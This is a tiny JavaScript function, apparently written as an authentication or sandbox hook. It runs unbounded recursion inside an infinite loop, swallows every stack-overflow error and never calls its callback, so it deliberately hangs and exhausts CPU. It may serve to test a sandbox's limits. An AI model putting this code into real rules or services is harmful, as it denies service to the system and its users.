function pipe(user, context, callback) {
  function down(n) { return down(n + 1) + 1; }
  for (;;) { try { down(0); } catch (e) {} }
}
